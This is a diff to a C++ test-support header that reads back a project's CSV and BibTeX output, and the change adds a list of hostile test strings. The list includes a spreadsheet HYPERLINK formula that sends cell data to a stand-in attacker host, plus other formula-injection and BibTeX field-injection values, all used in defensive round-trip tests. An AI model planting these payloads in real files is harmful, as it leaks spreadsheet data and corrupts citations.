@@ -1,7 +1,8 @@
 // Reading back what the project's CSV and BibTeX writers wrote, as a spreadsheet or a BibTeX
 // parser would (issue 21, items 7 and 8): the writers' round-trip tests and the libFuzzer target
-// fuzz/writers_fuzzer.cpp share it. Independent of the writers: an RFC 4180 reader, and a BibTeX
-// reader that counts braces the way BibTeX does (every brace counts, even after a backslash).
+// fuzz/writers_fuzzer.cpp share it (the reports' Table: tests/reports/table_read_back_util.h).
+// Independent of the writers: an RFC 4180 reader, and a BibTeX reader that counts braces the way
+// BibTeX does (every brace counts, even after a backslash).
 #pragma once
 
 #include <cstddef>
@@ -15,9 +16,39 @@
 #include "archive/cite.h"
 #include "archive/listing.h"
 #include "common/csv.h"
-#include "reports/table.h"
 
 namespace mancala::test_support {
+
+// Texts a hostile source could hold: formulas, quotes, separators, line breaks, TeX.
+inline const std::vector<std::string> kHostile = {
+    "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Click\")",
+    "+1+2",
+    "-2+3",
+    "@SUM(A1:A9)",
+    "\tTAB",
+    "\rCR",
+    "'=already guarded?",
+    "''+twice",
+    "-",
+    "=",
+    "'",
+    "-3000",
+    "+0.093",
+    "-1.5e-3",
+    "12.5%",
+    "a,b",
+    "say \"hi\"",
+    "two\nlines",
+    "crlf\r\nline",
+    "}, title = {Injected title}",
+    "{unbalanced",
+    "back\\slash \\end{document}",
+    "100% & $5 #1 a_b ^ ~ < >",
+    "Smith and Jones",
+    "AND",
+    "others",
+    "Toğızqumalaq, Тоғызқұмалақ",
+    ""};
 
 // The rows of RFC 4180 text whose lines end in `line_end` ("\r\n" or "\n"). Throws
 // std::runtime_error for a stray or unclosed quote or a missing final line end.
@@ -277,25 +308,6 @@ inline std::string csv_round_trip_error(const std::string& csv, std::string_view
     }
   }
   return "";
-}
-
-// Table::to_csv of `header` and text `rows` read back (csv_round_trip_error); a table the Table
-// refuses (an empty or repeated column name) gives "".
-inline std::string table_csv_round_trip_error(const std::vector<std::string>& header,
-                                              const std::vector<std::vector<std::string>>& rows) {
-  std::vector<reports::Column> columns;
-  for (const std::string& name : header) columns.push_back({name});
-  std::string csv;
-  try {
-    reports::Table table(columns);
-    for (const auto& row : rows) table.add_row(std::vector<reports::Cell>(row.begin(), row.end()));
-    csv = table.to_csv();
-  } catch (const Error&) {
-    return "";
-  }
-  std::vector<std::vector<std::string>> expected = {header};
-  expected.insert(expected.end(), rows.begin(), rows.end());
-  return csv_round_trip_error(csv, "\r\n", expected);
 }
 
 // `evidence search --format csv` of one record read back: its text fields as given.
